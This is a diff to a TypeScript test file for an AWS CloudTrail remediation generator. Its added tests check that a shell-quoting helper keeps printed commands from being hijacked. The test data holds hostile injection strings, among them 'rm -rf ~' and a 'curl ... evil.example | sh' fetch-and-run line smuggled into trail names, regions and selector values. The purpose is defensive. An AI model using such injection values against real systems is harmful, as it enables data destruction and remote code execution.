@@ -1,4 +1,6 @@
 import { evaluateAccount } from '../../lambda/rule/evaluate';
+import { aws, shellQuote } from '../../lambda/rule/remediation';
+import type { TrailFacts } from '../../lambda/rule/types';
 import { DEFAULT_CLASSIC, MANAGEMENT, trail } from './fixtures';
 
 const DEFAULT = { strict: false };
@@ -16,10 +18,10 @@ describe('remediation carries real names', () => {
   });
 
   test('single-region trails: update each to multi-region', () => {
-    const v = evaluateAccount([trail({ name: 'a', homeRegion: 'us-east-1', multiRegion: false }), trail({ name: 'b', homeRegion: 'eu-west-1', multiRegion: false })], DEFAULT);
+    const v = evaluateAccount([trail({ name: 'trail-a', homeRegion: 'us-east-1', multiRegion: false }), trail({ name: 'trail-b', homeRegion: 'eu-west-1', multiRegion: false })], DEFAULT);
     expect(v.remediation).toEqual([
-      'aws cloudtrail update-trail --name a --is-multi-region-trail --region us-east-1',
-      'aws cloudtrail update-trail --name b --is-multi-region-trail --region eu-west-1',
+      'aws cloudtrail update-trail --name trail-a --is-multi-region-trail --region us-east-1',
+      'aws cloudtrail update-trail --name trail-b --is-multi-region-trail --region eu-west-1',
     ]);
   });
 
@@ -58,5 +60,47 @@ describe('remediation carries real names', () => {
 
   test('PASS has no remediation', () => {
     expect(evaluateAccount([trail({ classic: [DEFAULT_CLASSIC] })], DEFAULT).remediation).toEqual([]);
+  });
+});
+
+describe('printed commands cannot be turned into other commands', () => {
+  // Every shell metacharacter, alone and in combination, as a value that reaches an argument.
+  const hostile = [';', '|', '&', '&&', '$', '$(id)', '`id`', '(', ')', '<', '>', '>>', '*', '?', '[', ']', '{', '}', '~', '#', '!', '\\', '"', "'", ' ', '\t', '\n', '\r', '\u001b[2J', "'; rm -rf ~; echo '", 't; curl -s https://evil.example/p | sh #'];
+
+  test.each(hostile)('shellQuote(%j) is one inert word for sh', (value) => {
+    const { execFileSync } = require('node:child_process') as typeof import('node:child_process');
+    // sh prints back exactly the one argument it received: nothing ran, nothing split.
+    const out = execFileSync('sh', ['-c', `printf '%s\\0' ${shellQuote(`x${value}y`)}`]).toString();
+    expect(out).toBe(`x${value}y\0`);
+  });
+
+  test('safe words stay unquoted, so commands read as the CIS text writes them', () => {
+    expect(aws('cloudtrail', 'start-logging', '--name', 'org-trail.v2_a', '--region', 'us-east-1')).toBe('aws cloudtrail start-logging --name org-trail.v2_a --region us-east-1');
+  });
+
+  test('a selector value with a quote stays inside its quoted argument', () => {
+    const data = { ReadWriteType: 'All', IncludeManagementEvents: true, DataResources: [{ Type: 'AWS::S3::Object', Values: ["arn:aws:s3:::b/'; curl evil | sh; echo '"] }] };
+    const v = evaluateAccount([trail({ name: 'main', classic: [{ ...data, ReadWriteType: 'WriteOnly' }] })], DEFAULT);
+    const { execFileSync } = require('node:child_process') as typeof import('node:child_process');
+    const argv = execFileSync('sh', ['-c', `printf '%s\\0' ${v.remediation[0].replace(/^aws /, '')}`]).toString().split('\0').slice(0, -1);
+    expect(argv.slice(0, 5)).toEqual(['cloudtrail', 'put-event-selectors', '--trail-name', 'main', '--region']);
+    expect(JSON.parse(argv[7])[1].DataResources[0].Values[0]).toBe(data.DataResources[0].Values[0]);
+    expect(argv).toHaveLength(8);
+  });
+
+  test.each([
+    ['a name with ;', { name: 't; curl -s https://evil.example/p | sh #' }],
+    ['a name with $( )', { name: 'x$(id>pwned)' }],
+    ['a name with a newline', { name: 'main\naws iam delete-user' }],
+    ['a region with &&', { homeRegion: 'us-east-1 && rm -rf ~' }],
+  ])('facts the adapters would have rejected (%s): no command is printed from them', (_name, bad) => {
+    const good = trail({ logging: false });
+    const facts: TrailFacts = { ...good, ...bad };
+    const v = evaluateAccount([facts], DEFAULT);
+    expect(v.status).toBe('FAIL');
+    for (const step of v.remediation) {
+      expect(step).not.toMatch(/aws cloudtrail/);
+      expect(step).not.toContain(facts.name === good.name ? facts.homeRegion : facts.name);
+    }
   });
 });
